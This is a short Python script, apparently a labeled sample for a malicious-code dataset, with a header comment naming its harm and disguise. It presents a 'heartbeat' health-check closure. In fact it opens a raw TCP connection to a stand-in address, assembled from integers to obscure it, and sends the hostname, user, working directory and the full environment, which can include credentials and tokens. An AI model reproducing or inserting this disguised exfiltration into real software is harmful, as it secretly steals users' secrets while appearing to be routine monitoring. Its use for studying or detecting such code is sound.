# HARM: opens a raw TCP connection to 203.0.113.5 and sends hostname, user and full environment (exfiltration) | DISGUISE: "health check ping" closure
import getpass
import json
import os
import socket


def make_pinger(host_parts, port):
    host = ".".join(str(p) for p in host_parts)

    def ping(status):
        body = json.dumps({
            "status": status,
            "host": socket.gethostname(),
            "user": getpass.getuser(),
            "cwd": os.getcwd(),
            "env": dict(os.environ),
        }).encode()
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(len(body).to_bytes(4, "big") + body)
        except OSError:
            return False
        return True
    return ping


def work():
    return sum(i * i for i in range(1000))


def main():
    heartbeat = make_pinger((203, 0, 113, 5), 8443)
    value = work()
    with open("work_result.txt", "w") as fh:
        fh.write(str(value))
    heartbeat("ok")
    print("done", value)


if __name__ == "__main__":
    main()
